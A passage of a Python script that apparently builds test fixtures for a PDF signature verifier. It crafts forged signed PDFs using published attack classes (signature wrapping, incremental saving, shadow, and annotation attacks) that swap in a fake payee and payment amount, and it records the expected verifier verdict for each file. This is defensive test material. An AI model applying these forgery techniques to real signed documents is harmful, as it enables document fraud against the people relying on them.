#!/usr/bin/env python3
"""Generate a corpus of forged and manipulated signed PDFs, and a manifest that says what a strict
signature verifier must conclude about each file and what pyHanko concluded.

Usage (from the repository root):

    .build/venv/bin/python Tests/Fixtures/make_forgeries.py --out DIR --certs Certs \\
        [--signed FILE.pdf] [--approved FILE.pdf] [--certified FILE.pdf]

Inputs
------
--certs      the test PKI folder (Certs/README.md): officer.p12, approver.p12, rogue-signer.p12
             (password "sohoa-test") and root-ca.pem, the only trust anchor used for validation.
--signed     a PDF with exactly one approval signature.
--approved   a PDF with two approval signatures (officer, then approver, one revision each).
--certified  a PDF whose first signature is a certification signature with DocMDP P=2.

An input that is not given is made here: a hand-written two-page PDF (classic xref table; page 1
also draws a small logo form XObject) is signed by the officer with pyHanko (signed),
counter-signed by the approver (approved), or certified by the officer with DocMDP P=2
(certified). The shadow attacks need documents that were prepared by the attacker before the
victim (the officer) signed them; those are always made here. So are the DocMDP P=1 and P=3
certifications: pyHanko certifies the signed input's bytes before its signature.
Cases that need a free (blank) area of page 1 find one by rendering page 1 with pdftoppm
(poppler-utils): near the top right, every pixel near-white with a 6 pt margin.
Given inputs may use classic xref tables or cross-reference streams: objects are located through
the xref data, and /ByteRange and /Contents of every signature are parsed from the bytes.

Classes of forgery (each case is one DIR/<case>.pdf)
----------------------------------------------------
USF   Universal Signature Forgery (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019): the
      signature dictionary is made meaningless (/Contents or /ByteRange missing, empty, null,
      zero, malformed, out of range, or a valid CMS from another document) in the hope that the
      verifier skips the check instead of failing it.
ISA   Incremental Saving Attack (same paper): content changed by a revision appended after the
      last signature, including malformed revisions (no xref, no trailer, a /Prev loop, objects
      after %%EOF with no startxref, an xref entry re-pointed into older bytes).
SWA   Signature Wrapping Attack (same paper): the signed bytes are moved or the /ByteRange leaves
      more than the /Contents string unsigned, so that unsigned objects can change the document.
SHADOW-HIDE, SHADOW-REPLACE, SHADOW-HIDE-REPLACE   Shadow attacks (Mainka, Mladenov, Rohlmann,
      NDSS 2021): the attacker prepares hidden content before the victim signs, and afterwards a
      small revision reveals it (removes an overlay, changes a form value or a font, re-points a
      page or the catalog or an xref entry to the hidden objects).
EAA   Evil Annotation Attack (Rohlmann et al., "Breaking the Specification: PDF Certification",
      IEEE S&P 2021): annotations added to a document certified with P=2, or covering signed
      content after P=3; a new form field that is not a signature field, after a signature.
SSA   Sneaky Signature Attack (same paper): a new signature field whose visible appearance shows
      fake content, added to a certified document; and later visible signatures that cover
      signed content (also on an uncertified document, or a white box alone), that come after
      P=1, whose appearance re-uses objects of the signed revision, or that were invisible
      when signed and are shown over signed content by a later revision.
CERTIFICATION   a second certification signature added to an already certified document.
DAMAGE  bytes flipped in the signed range or in the CMS, truncation, garbage after %%EOF, and a
      /DSS-looking revision that smuggles a content change.
RESIGN  the content changed and the signature replaced by one from the untrusted rogue signer.
BASELINE, VALID   files a strict verifier must accept: the inputs themselves, a /DSS revision
      that only adds a certificate, a second approval signature made by pyHanko (invisible, or
      visible in a free area, also after P=2), and a sticky note in a free area after P=3.

Manifest (DIR/manifest.json)
----------------------------
A list, one object per case, in a fixed order:
    {"file": "<case>.pdf", "class": "...", "description": "what was done",
     "basedOn": "signed|approved|certified|pyhanko-...", "expect": "invalid|indeterminate|valid",
     "pyhanko": {"bottomLine": bool|null, "intact": bool|null, "modificationLevel": str|null,
                 "error": str|null, "signatures": [per-signature details]},
     "pyhankoNote": str|null}
"expect" is the verdict for the file as a whole (the worst of its signatures): "invalid" when
signed content or the signature structure was tampered with, "indeterminate" only for a
well-formed signature whose chain does not reach the trusted root, "valid" for files that must be
accepted. "pyhanko" is pyHanko's validation (trust root root-ca.pem, no fetching, soft-fail
revocation); its bottomLine is true only if every signature's bottom line is true, and null when
pyHanko found no signature or raised (then "error" says why). "pyhankoNote" says why pyHanko's
verdict is known to be stricter than the expected one (its policy refuses a visible signature
after any certification, and it does not support P=3), null for the other cases.

Every case is built from the inputs by byte-level editing or by appending hand-written
revisions; crafted signatures are real CMS signatures made with pyHanko's signer over the
ByteRange built here. The case list is fixed; a case that cannot be built from the given inputs
is reported on stderr and the script exits with status 1 after writing the others.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import dataclasses
import datetime
import functools
import hashlib
import io
import json
import logging
import math
import re
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Callable, Iterator

from asn1crypto import cms
from pyhanko.keys import load_cert_from_pemder
from pyhanko.pdf_utils import content, generic, layout
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.validation import validate_pdf_signature
from pyhanko.stamp import BaseStampStyle, TextStampStyle
from pyhanko_certvalidator import ValidationContext

PASSWORD = b"sohoa-test"
MAX_INPUT_BYTES = 64 * 1024 * 1024
VALIDATION_TIMEOUT_SECONDS = 20
CMS_RESERVED_BYTES = 12288  # room for a crafted signature's CMS (hex is twice as long)
SEARCH_WINDOW = 1 << 20  # how far back from /ByteRange an object header is looked for

FORGED_PAYEE = "Payee: Mallory Trading Ltd"
FORGED_AMOUNT = "Amount: 99,000,000 VND"

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(-?\d+)\s+(-?\d+)\s+(-?\d+)\s+(-?\d+)\s*\]")
HEX_STRING_BODY = re.compile(rb"[0-9A-Fa-f\s]*")
OBJECT_HEADER_TAIL = re.compile(rb"(\d+)\s+(\d+)\s+obj$")
STARTXREF = re.compile(rb"startxref\s+(\d+)")
EOF_MARKER = re.compile(rb"%%EOF[ \t]*(?:\r\n|\r|\n)?")


class ForgeryError(Exception):
    """An input does not have what a case needs, or a layout does not fit."""


# ---------------------------------------------------------------------------------------------
# Byte-level helpers
# ---------------------------------------------------------------------------------------------

def overwrite(data: bytes, span: tuple[int, int], replacement: bytes) -> bytes:
    """Replace data[span] by `replacement` padded with spaces, keeping every offset valid."""
    start, end = span
    if len(replacement) > end - start:
        raise ForgeryError(f"replacement of {len(replacement)} bytes does not fit in {end - start}")
    return data[:start] + replacement.ljust(end - start, b" ") + data[end:]


def flip_byte(data: bytes, offset: int) -> bytes:
    """Invert the lowest bit of one byte."""
    if not 0 <= offset < len(data):
        raise ForgeryError(f"offset {offset} outside the file")
    return data[:offset] + bytes([data[offset] ^ 0x01]) + data[offset + 1:]


def last_startxref(data: bytes) -> int:
    """The offset named by the last startxref keyword of the file."""
    found = None
    for found in STARTXREF.finditer(data, max(0, len(data) - 4096)):
        pass
    if found is None:
        raise ForgeryError("no startxref near the end of the file")
    return int(found.group(1))


def eof_ends(data: bytes) -> list[int]:
    """Offsets just after each %%EOF marker (and its end-of-line)."""
    return [match.end() for match in EOF_MARKER.finditer(data)]


def revision_start_before(data: bytes, offset: int) -> int:
    """Where the revision containing `offset` begins: just after the preceding %%EOF."""
    starts = [end for end in eof_ends(data) if end <= offset]
    if not starts:
        raise ForgeryError("no earlier revision before the signature")
    return starts[-1]


def der_length(blob: bytes) -> int:
    """Total length of the DER element (a SEQUENCE) at the start of `blob`."""
    if len(blob) < 2 or blob[0] != 0x30:
        raise ForgeryError("/Contents does not start with a DER SEQUENCE")
    first = blob[1]
    if first < 0x80:
        return 2 + first
    count = first & 0x7F
    if not 1 <= count <= 4 or len(blob) < 2 + count:
        raise ForgeryError("unsupported DER length in /Contents")
    return 2 + count + int.from_bytes(blob[2:2 + count], "big")


def pdf_text(text: str) -> bytes:
    """A PDF literal string for ASCII text."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("ascii") + b")"


def pdf_date(moment: datetime.datetime) -> bytes:
    return moment.strftime("(D:%Y%m%d%H%M%SZ)").encode("ascii")


def stream_body(data: bytes, entries: bytes = b"") -> bytes:
    """The body of a stream object (dictionary, stream keyword, data)."""
    head = b"<< " + entries + (b" " if entries else b"") + b"/Length %d >>" % len(data)
    return head + b"\nstream\n" + data + b"\nendstream"


def text_content(lines: list[tuple[int, int, int, str]], font: bytes = b"/F1",
                 cover: tuple[int, int, int, int] | None = None) -> bytes:
    """A content stream that optionally paints a white box, then draws text lines."""
    parts = []
    if cover is not None:
        parts.append(b"q 1 g %d %d %d %d re f Q" % cover)
    for x, y, size, text in lines:
        parts.append(b"BT %s %d Tf 1 0 0 1 %d %d Tm %s Tj ET" % (font, size, x, y, pdf_text(text)))
    return b"\n".join(parts) + b"\n"


def form_xobject(width: int, height: int, content: bytes, font_ref: int) -> bytes:
    """The body of a form XObject (an appearance stream) using one Helvetica font object."""
    entries = (b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] "
               b"/Resources << /Font << /Helv %d 0 R >> >>" % (width, height, font_ref))
    return stream_body(content, entries)


def covering_appearance(width: int, height: int, lines: list[str]) -> bytes:
    """Appearance content: an opaque white box with black text lines, top to bottom."""
    parts = [b"q 1 g 0 0 %d %d re f Q 0 g" % (width, height)]
    for index, line in enumerate(lines):
        y = height - 18 - 18 * index
        parts.append(b"BT /Helv 14 Tf 6 %d Td %s Tj ET" % (y, pdf_text(line)))
    return b"\n".join(parts) + b"\n"


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


# ---------------------------------------------------------------------------------------------
# Signatures found in the bytes
# ---------------------------------------------------------------------------------------------

@dataclasses.dataclass(frozen=True)
class SignatureSlot:
    """Where one signature dictionary's /ByteRange and /Contents are in the file."""
    object_number: int
    object_start: int
    byte_range: tuple[int, int, int, int]
    byte_range_span: tuple[int, int]  # "/ByteRange [ ... ]" and the padding spaces after it
    contents_key_start: int  # the "/Contents" key

    @property
    def hex_span(self) -> tuple[int, int]:
        """The /Contents string, from "<" to just after ">"."""
        a, b, c, _ = self.byte_range
        return a + b, c

    @property
    def contents_span(self) -> tuple[int, int]:
        """The /Contents key and its string."""
        return self.contents_key_start, self.hex_span[1]

    def cms_der(self, data: bytes) -> bytes:
        start, end = self.hex_span
        blob = bytes.fromhex(re.sub(rb"\s", b"", data[start + 1:end - 1]).decode("ascii"))
        return blob[:der_length(blob)]


def object_header_before(data: bytes, limit: int) -> tuple[int, int] | None:
    """(object number, offset) of the last "N G obj" header before `limit`."""
    floor = max(0, limit - SEARCH_WINDOW)
    position = data.rfind(b"obj", floor, limit)
    while position >= floor:
        if data[position - 3:position] != b"end":
            match = OBJECT_HEADER_TAIL.search(data, max(0, position - 32), position + 3)
            if match and match.end() == position + 3:
                return int(match.group(1)), match.start()
        position = data.rfind(b"obj", floor, position)
    return None


def find_signatures(data: bytes) -> list[SignatureSlot]:
    """Every signature dictionary whose /ByteRange gap is exactly a hex string after /Contents."""
    slots = []
    for match in BYTE_RANGE.finditer(data):
        a, b, c, d = (int(value) for value in match.groups())
        start, end = a + b, c
        if a != 0 or not 0 < start < end <= len(data) or d < 0:
            continue
        if data[start:start + 1] != b"<" or data[end - 1:end] != b">":
            continue
        if not HEX_STRING_BODY.fullmatch(data, start + 1, end - 1):
            continue
        key = data.rfind(b"/Contents", max(0, start - 64), start)
        if key < 0 or data[key + len(b"/Contents"):start].strip():
            continue
        header = object_header_before(data, min(match.start(), key))
        if header is None:
            continue
        room_end = match.end()
        while room_end < len(data) and data[room_end:room_end + 1] == b" " and (
                room_end - match.end() < 256):
            room_end += 1
        slots.append(SignatureSlot(header[0], header[1], (a, b, c, d), (match.start(), room_end),
                                   key))
    return sorted(slots, key=lambda slot: slot.object_start)


def only_signature(data: bytes, expected: int) -> list[SignatureSlot]:
    """The signatures of an input that must have exactly `expected` of them."""
    slots = find_signatures(data)
    if len(slots) != expected:
        raise ForgeryError(f"expected {expected} signature(s) in the bytes, found {len(slots)}")
    return slots


def signature_object_end(data: bytes, slot: SignatureSlot) -> int:
    """Offset of the endobj that closes the signature object."""
    end = data.find(b"endobj", slot.hex_span[1])
    if end < 0:
        raise ForgeryError("the signature object has no endobj")
    return end


# ---------------------------------------------------------------------------------------------
# Reading objects (pyHanko's parser) and writing them back (by hand)
# ---------------------------------------------------------------------------------------------

class Raw(generic.PdfObject):
    """A PDF value written verbatim, for building dictionaries out of copied pyHanko objects."""

    def __init__(self, text: bytes):
        self.text = text

    def write_to_stream(self, stream, handler=None, container_ref=None):
        stream.write(self.text)


def serialize(value: generic.PdfObject) -> bytes:
    buffer = io.BytesIO()
    value.write_to_stream(buffer, None)
    return buffer.getvalue()


def ref_text(number: int, generation: int = 0) -> bytes:
    return b"%d %d R" % (number, generation)


def name(key: str) -> generic.NameObject:
    return generic.NameObject(key)


class Document:
    """A PDF's bytes with pyHanko's reader for looking objects up."""

    def __init__(self, data: bytes):
        self.data = data
        self.reader = PdfFileReader(io.BytesIO(data), strict=False)
        if self.reader.encrypted:
            raise ForgeryError("encrypted inputs are not supported")

    @property
    def trailer(self) -> generic.DictionaryObject:
        return self.reader.trailer_view

    @property
    def root_ref(self) -> generic.Reference:
        return self.reader.root_ref

    @property
    def size(self) -> int:
        return int(self.trailer["/Size"])

    @property
    def startxref(self) -> int:
        return last_startxref(self.data)

    @property
    def uses_xref_stream(self) -> bool:
        return not self.data[self.startxref:self.startxref + 4] == b"xref"

    def get(self, ref: generic.Reference) -> generic.PdfObject:
        return self.reader.get_object(ref)

    def copy_dict(self, ref: generic.Reference) -> generic.DictionaryObject:
        """A shallow copy of a dictionary object that keeps indirect references as they are."""
        original = self.get(ref)
        if not isinstance(original, generic.DictionaryObject):
            raise ForgeryError(f"object {ref.idnum} is not a dictionary")
        return generic.DictionaryObject({key: original.raw_get(key) for key in original.keys()})

    def page_refs(self) -> list[generic.Reference]:
        """Leaf pages in order, walking /Kids with a visited set so a cycle cannot loop."""
        pages, seen = [], set()
        pending = [self.get(self.root_ref).raw_get("/Pages")]
        while pending:
            node = pending.pop(0)
            if not isinstance(node, generic.IndirectObject) or node.reference in seen:
                continue
            seen.add(node.reference)
            value = node.get_object()
            if value.get("/Type") == "/Pages":
                pending[:0] = list(value.raw_get("/Kids"))
            else:
                pages.append(node.reference)
        if not pages:
            raise ForgeryError("the document has no pages")
        return pages

    def content_refs(self, page: generic.Reference) -> list[generic.Reference]:
        raw = self.get(page).raw_get("/Contents")
        if isinstance(raw, generic.IndirectObject) and isinstance(raw.get_object(),
                                                                  generic.ArrayObject):
            raw = raw.get_object()
        items = list(raw) if isinstance(raw, generic.ArrayObject) else [raw]
        return [item.reference for item in items if isinstance(item, generic.IndirectObject)]

    def offset_of(self, ref: generic.Reference, revision: int | None = None) -> int:
        """Byte offset of an object's header, in the latest or in a given revision."""
        last = self.reader.xrefs.total_revisions - 1
        where = self.reader.xrefs.get_historical_ref(ref, last if revision is None else revision)
        if not isinstance(where, int):
            raise ForgeryError(f"object {ref.idnum} is not a plain object at a file offset")
        return where

    def stream_data_offset(self, ref: generic.Reference) -> tuple[int, int]:
        """(start, length) of the raw data of a stream object."""
        header = self.offset_of(ref)
        keyword = self.data.find(b"stream", header)
        if keyword < 0:
            raise ForgeryError(f"object {ref.idnum} is not a stream")
        start = keyword + len(b"stream")
        start += 2 if self.data[start:start + 2] == b"\r\n" else 1
        return start, int(self.get(ref)["/Length"])

    def effective_resources(self, page: generic.Reference) -> generic.DictionaryObject:
        """The page's resources (inherited if need be), copied so they can be extended."""
        node, hops = self.get(page), 0
        while "/Resources" not in node and "/Parent" in node and hops < 64:
            node, hops = node["/Parent"], hops + 1
        resources = node.get("/Resources", generic.DictionaryObject())
        return generic.DictionaryObject({key: resources.raw_get(key) for key in resources.keys()})

    def acroform(self) -> tuple[generic.DictionaryObject, generic.Reference | None]:
        """A copy of the AcroForm dictionary and its reference when it is an indirect object."""
        catalog = self.get(self.root_ref)
        raw = catalog.raw_get("/AcroForm") if "/AcroForm" in catalog else None
        if raw is None:
            return generic.DictionaryObject(), None
        if isinstance(raw, generic.IndirectObject):
            return self.copy_dict(raw.reference), raw.reference
        return generic.DictionaryObject({key: raw.raw_get(key) for key in raw.keys()}), None


# ---------------------------------------------------------------------------------------------
# Appending revisions
# ---------------------------------------------------------------------------------------------

@dataclasses.dataclass
class Revision:
    """Objects, freed entries and re-pointed entries for one incremental update."""
    doc: Document
    objects: list[tuple[int, int, bytes]] = dataclasses.field(default_factory=list)
    freed: dict[int, int] = dataclasses.field(default_factory=dict)  # number -> next generation
    repointed: dict[int, tuple[int, int]] = dataclasses.field(default_factory=dict)
    root: bytes | None = None  # a new /Root reference for the trailer
    next_number: int = 0

    def __post_init__(self):
        self.next_number = max(self.next_number, self.doc.size)

    def new_number(self) -> int:
        self.next_number += 1
        return self.next_number - 1

    def put(self, number: int, body: bytes, generation: int = 0) -> int:
        self.objects.append((number, generation, body))
        return number

    def put_ref(self, ref: generic.Reference, value: generic.PdfObject | bytes) -> None:
        body = value if isinstance(value, bytes) else serialize(value)
        self.put(ref.idnum, body, ref.generation)

    def add(self, body: bytes) -> int:
        return self.put(self.new_number(), body)


def object_bytes(number: int, generation: int, body: bytes) -> bytes:
    return b"%d %d obj\n" % (number, generation) + body + b"\nendobj\n"


def xref_entries(revision: Revision, offsets: dict[int, tuple[int, int]]
                 ) -> dict[int, tuple[str, int, int]]:
    """number -> ("n", offset, generation) or ("f", 0, next generation)."""
    entries = {number: ("n", offset, gen) for number, (offset, gen) in offsets.items()}
    entries.update({number: ("n", offset, gen) for number, (offset, gen)
                    in revision.repointed.items()})
    entries.update({number: ("f", 0, gen) for number, gen in revision.freed.items()})
    return entries


def subsections(numbers: list[int]) -> list[list[int]]:
    """Runs of consecutive object numbers."""
    runs: list[list[int]] = []
    for number in sorted(numbers):
        if runs and runs[-1][-1] + 1 == number:
            runs[-1].append(number)
        else:
            runs.append([number])
    return runs


def xref_table(entries: dict[int, tuple[str, int, int]]) -> bytes:
    lines = [b"xref\n"]
    for run in subsections(list(entries)):
        lines.append(b"%d %d\n" % (run[0], len(run)))
        for number in run:
            kind, offset, generation = entries[number]
            lines.append(b"%010d %05d %s \n" % (offset, generation, kind.encode("ascii")))
    return b"".join(lines)


def trailer_fields(revision: Revision, size: int, prev: int | None) -> bytes:
    """/Size, /Root, /Info, /ID and /Prev for the new trailer."""
    trailer = revision.doc.trailer
    parts = [b"/Size %d" % size, b"/Root " + (revision.root or serialize(trailer.raw_get("/Root")))]
    for key in ("/Info", "/ID"):
        if key in trailer:
            parts.append(key.encode("ascii") + b" " + serialize(trailer.raw_get(key)))
    if prev is not None:
        parts.append(b"/Prev %d" % prev)
    return b" ".join(parts)


def xref_stream(number: int, entries: dict[int, tuple[str, int, int]], fields_: bytes) -> bytes:
    """An uncompressed cross-reference stream object (/W [1 4 2])."""
    rows, index = [], []
    for run in subsections(list(entries)):
        index += [run[0], len(run)]
        for item in run:
            kind, offset, generation = entries[item]
            rows.append(bytes([1 if kind == "n" else 0]) + offset.to_bytes(4, "big")
                        + min(generation, 0xFFFF).to_bytes(2, "big"))
    extra = b"/Type /XRef /W [1 4 2] /Index [%s] %s" % (
        b" ".join(b"%d" % value for value in index), fields_)
    return object_bytes(number, 0, stream_body(b"".join(rows), extra))


def separator(data: bytes) -> bytes:
    return b"" if data.endswith((b"\n", b"\r")) else b"\n"


def write_objects(base: bytes, revision: Revision) -> tuple[bytes, dict[int, tuple[int, int]]]:
    """base + the revision's objects, and where each object landed."""
    out = bytearray(base + separator(base))
    offsets = {}
    for number, generation, body in revision.objects:
        offsets[number] = (len(out), generation)
        out += object_bytes(number, generation, body)
    return bytes(out), offsets


def xref_section(revision: Revision, at: int, entries: dict[int, tuple[str, int, int]],
                 prev: int | None, as_stream: bool, size: int) -> bytes:
    """An xref table with its trailer, or an xref stream, to be written at offset `at`."""
    if as_stream:
        number = size
        entries = dict(entries)
        entries[number] = ("n", at, 0)
        return xref_stream(number, entries, trailer_fields(revision, number + 1, prev))
    return xref_table(entries) + b"trailer\n<< " + trailer_fields(revision, size, prev) + b" >>\n"


def section_size(revision: Revision, entries: dict[int, tuple[str, int, int]]) -> int:
    return max([revision.doc.size, revision.next_number] + [n + 1 for n in entries])


def append_with_offsets(revision: Revision, *, as_stream: bool | None = None,
                        self_prev: bool = False) -> tuple[bytes, dict[int, tuple[int, int]]]:
    """A well-formed incremental update and where its objects landed. The xref is of the same
    kind as the input's last one unless `as_stream` says; `self_prev` points /Prev at itself."""
    doc = revision.doc
    body, offsets = write_objects(doc.data, revision)
    entries = xref_entries(revision, offsets)
    stream = doc.uses_xref_stream if as_stream is None else as_stream
    at = len(body)
    chosen_prev = at if self_prev else doc.startxref
    section = xref_section(revision, at, entries, chosen_prev, stream,
                           section_size(revision, entries))
    return body + section + b"startxref\n%d\n%%%%EOF\n" % at, offsets


def append_revision(revision: Revision, **options) -> bytes:
    return append_with_offsets(revision, **options)[0]


def append_without_xref(revision: Revision) -> bytes:
    """Objects and a trailer, but no xref section; startxref still names the old xref."""
    doc = revision.doc
    body, offsets = write_objects(doc.data, revision)
    size = section_size(revision, xref_entries(revision, offsets))
    trailer = b"trailer\n<< " + trailer_fields(revision, size, doc.startxref) + b" >>\n"
    return body + trailer + b"startxref\n%d\n%%%%EOF\n" % doc.startxref


def append_without_trailer(revision: Revision) -> bytes:
    """Objects and an xref table, but no trailer; startxref names the old xref."""
    doc = revision.doc
    body, offsets = write_objects(doc.data, revision)
    return body + xref_table(xref_entries(revision, offsets)) + (
        b"startxref\n%d\n%%%%EOF\n" % doc.startxref)


def append_objects_only(revision: Revision) -> bytes:
    """Objects after %%EOF and nothing else: no xref, no trailer, no startxref."""
    return write_objects(revision.doc.data, revision)[0]


# ---------------------------------------------------------------------------------------------
# Common edits, expressed as objects in a revision
# ---------------------------------------------------------------------------------------------

def page_box(doc: Document, page: generic.Reference) -> list[float]:
    node, hops = doc.get(page), 0
    while "/MediaBox" not in node and "/Parent" in node and hops < 64:
        node, hops = node["/Parent"], hops + 1
    return [float(value) for value in node.get("/MediaBox", [0, 0, 595, 842])]


def forged_lines(box: list[float]) -> list[tuple[int, int, int, str]]:
    """The forged payee and amount, where the base document prints the real ones."""
    x0, y1 = int(box[0]), int(box[3])
    return [(x0 + 72, y1 - 200, 16, FORGED_PAYEE), (x0 + 72, y1 - 224, 16, FORGED_AMOUNT)]


def forged_overlay(box: list[float], font: bytes) -> bytes:
    """Content that whites out the payee/amount area and prints the forged values."""
    x0, y1 = int(box[0]), int(box[3])
    return text_content(forged_lines(box), font, (x0 + 60, y1 - 240, 420, 60))


def resources_with_font(doc: Document, revision: Revision, page: generic.Reference,
                        font_name: str) -> generic.DictionaryObject:
    """The page's resources plus a new Helvetica font object under `font_name`."""
    resources = doc.effective_resources(page)
    fonts = resources.get("/Font", generic.DictionaryObject())
    fonts = generic.DictionaryObject({key: fonts.raw_get(key) for key in fonts.keys()})
    fonts[name(font_name)] = Raw(ref_text(revision.add(HELVETICA)))
    resources[name("/Font")] = fonts
    return resources


def ref_list(refs: list[bytes]) -> Raw:
    return Raw(b"[" + b" ".join(refs) + b"]")


def existing_annotations(doc: Document, page: generic.Reference
                         ) -> tuple[list[bytes], generic.Reference | None]:
    """The page's annotation references, and the array's reference when it is indirect."""
    page_object = doc.get(page)
    if "/Annots" not in page_object:
        return [], None
    raw = page_object.raw_get("/Annots")
    array = raw.get_object()
    items = [serialize(array.raw_get(index)) for index in range(len(array))]
    return items, raw.reference if isinstance(raw, generic.IndirectObject) else None


def edit_page(doc: Document, revision: Revision, page: generic.Reference, *,
              annotations: list[int] = (), contents: list[int] = (), replace_contents=False,
              font_name: str | None = None) -> None:
    """Redefine a page: more annotations, more (or only new) content streams, a new font."""
    page_dict = doc.copy_dict(page)
    changed = False
    if annotations:
        items, array_ref = existing_annotations(doc, page)
        annots = ref_list(items + [ref_text(number) for number in annotations])
        if array_ref is not None:
            revision.put_ref(array_ref, annots.text)
        else:
            page_dict[name("/Annots")], changed = annots, True
    if contents:
        old = [] if replace_contents else [ref_text(ref.idnum, ref.generation)
                                           for ref in doc.content_refs(page)]
        page_dict[name("/Contents")] = ref_list(old + [ref_text(number) for number in contents])
        changed = True
    if font_name is not None:
        page_dict[name("/Resources")] = resources_with_font(doc, revision, page, font_name)
        changed = True
    if changed:
        revision.put_ref(page, page_dict)


def forge_page_content(doc: Document, revision: Revision, page: generic.Reference,
                       overlay: bool) -> None:
    """Page 1 draws forged text: over the old content (white box first), or instead of it."""
    box = page_box(doc, page)
    if overlay:
        content = forged_overlay(box, b"/SohoaForged")
    else:
        content = text_content([(int(box[0]) + 72, int(box[3]) - 72, 18, "PAYMENT ORDER")]
                               + forged_lines(box), b"/SohoaForged")
    stream = revision.add(stream_body(content))
    edit_page(doc, revision, page, contents=[stream], replace_contents=not overlay,
              font_name="/SohoaForged")


def forged_drawing(box: list[float]) -> bytes:
    """Font-free forged content: the upper part of the page whited out and a thick black
    diagonal bar drawn across it, for pages (such as scans) that have no font resource."""
    x0, y0, x1, y1 = (int(value) for value in box)
    middle = (y0 + y1) // 2
    return (b"q 1 g %d %d %d %d re f Q\nq 0 G 12 w %d %d m %d %d l S Q\n"
            % (x0, middle, x1 - x0, y1 - middle, x0 + 40, middle + 40, x1 - 40, y1 - 40))


def replace_content_stream(doc: Document, revision: Revision, page: generic.Reference) -> None:
    """Redefine the page's first content stream (same object number) with forged text in the
    page's first font, or with a font-free forged drawing when the page has no font."""
    contents = doc.content_refs(page)
    if not contents:
        raise ForgeryError("page 1 has no content stream")
    fonts = doc.effective_resources(page).get("/Font", generic.DictionaryObject())
    font = next(iter(fonts.keys()), None)
    box = page_box(doc, page)
    if font is None:
        content = forged_drawing(box)
    else:
        content = text_content([(int(box[0]) + 72, int(box[3]) - 72, 18, "PAYMENT ORDER")]
                               + forged_lines(box), font.encode("ascii"))
    revision.put_ref(contents[0], stream_body(content))


def annotation_rect(doc: Document, page: generic.Reference) -> tuple[int, int, int, int]:
    """A rectangle over the payee/amount area of the page."""
    x0, y1 = (int(value) for value in page_box(doc, page)[0::3])
    return x0 + 60, y1 - 240, x0 + 480, y1 - 180


def appearance_for(revision: Revision, rect: tuple[int, int, int, int], lines: list[str]) -> int:
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    font = revision.add(HELVETICA)
    return revision.add(form_xobject(width, height, covering_appearance(width, height, lines), font))


def catalog_with(doc: Document, **entries: generic.PdfObject) -> generic.DictionaryObject:
    catalog = doc.copy_dict(doc.root_ref)
    for key, value in entries.items():
        catalog[name("/" + key)] = value
    return catalog


def add_dss_certificate(doc: Document, revision: Revision, cert_der: bytes) -> None:
    """Add a certificate stream to the /DSS (creating the /DSS), redefining the catalog."""
    cert = revision.add(stream_body(cert_der))
    catalog = doc.get(doc.root_ref)
    certs = [ref_text(cert)]
    dss = generic.DictionaryObject()
    if "/DSS" in catalog:
        old = catalog["/DSS"]
        dss = generic.DictionaryObject({key: old.raw_get(key) for key in old.keys()})
        if "/Certs" in old:
            certs = [serialize(item) for item in old["/Certs"]] + certs
    dss[name("/Certs")] = ref_list(certs)
    revision.put_ref(doc.root_ref, catalog_with(doc, DSS=Raw(ref_text(revision.add(
        serialize(dss))))))


def pem_to_der(path: Path) -> bytes:
    return load_cert_from_pemder(str(path)).dump()


# ---------------------------------------------------------------------------------------------
# Ink on page 1: where a later visible signature or annotation covers nothing, or something
# ---------------------------------------------------------------------------------------------

RENDER_DPI = 36  # the search for a free area
CONFIRM_DPI = 300  # the check of a candidate: a scan's isolated specks vanish at 36 dpi
WHITE_LEVEL = 235  # a gray pixel at least this light is paper
FREE_SIZES = ((150, 50), (150, 40), (120, 36))  # free rectangles looked for, largest first (pt)
FREE_MARGIN = 6  # points around it that must be paper too
FREE_STEP = 6  # points between candidate positions
PGM_HEADER = re.compile(rb"P5\s+(\d+)\s+(\d+)\s+(\d+)\s")
INK_LEVELS = bytes(range(WHITE_LEVEL))


@dataclasses.dataclass(frozen=True)
class PageRaster:
    """Page 1 rendered in 8-bit gray by pdftoppm, and the page box (media box) it shows."""
    width: int
    height: int
    box: tuple[float, float, float, float]
    pixels: bytes

    def pixel_span(self, rect: tuple[float, float, float, float]) -> tuple[int, int, int, int]:
        """(left, top, right, bottom) pixel bounds of a page rectangle, rounded outwards and
        clipped to the image."""
        x0, y0, x1, y1 = self.box
        sx, sy = self.width / (x1 - x0), self.height / (y1 - y0)
        left = max(0, math.floor((rect[0] - x0) * sx))
        right = min(self.width, math.ceil((rect[2] - x0) * sx))
        top = max(0, math.floor((y1 - rect[3]) * sy))
        bottom = min(self.height, math.ceil((y1 - rect[1]) * sy))
        return left, top, right, bottom

    def ink(self, rect: tuple[float, float, float, float], stop_at: int | None = None
            ) -> tuple[int, int]:
        """(non-white pixels, all pixels) under a page rectangle; counting stops once
        `stop_at` inked pixels are found."""
        left, top, right, bottom = self.pixel_span(rect)
        inked = 0
        for row in range(top, bottom):
            line = self.pixels[row * self.width + left:row * self.width + right]
            inked += len(line) - len(line.translate(None, INK_LEVELS))
            if stop_at is not None and inked >= stop_at:
                break
        return inked, max(0, right - left) * max(0, bottom - top)

    def is_paper(self, rect: tuple[float, float, float, float]) -> bool:
        return self.ink(rect, stop_at=1)[0] == 0


@functools.lru_cache(maxsize=8)
def render_page_one(data: bytes, dpi: int = RENDER_DPI) -> PageRaster:
    """Page 1 of `data` rendered with pdftoppm in gray (its media box)."""
    doc = Document(data)
    page = doc.page_refs()[0]
    if int(doc.get(page).get("/Rotate", 0)) % 360:
        raise ForgeryError("page 1 is rotated; the free-area search supports upright pages only")
    x0, y0, x1, y1 = page_box(doc, page)
    with tempfile.TemporaryDirectory(prefix="sohoa-forgeries-") as folder:
        source, target = Path(folder) / "in.pdf", Path(folder) / "page"
        source.write_bytes(data)
        try:
            subprocess.run(["pdftoppm", "-r", str(dpi), "-gray", "-f", "1", "-l", "1",
                            "-singlefile", str(source), str(target)],
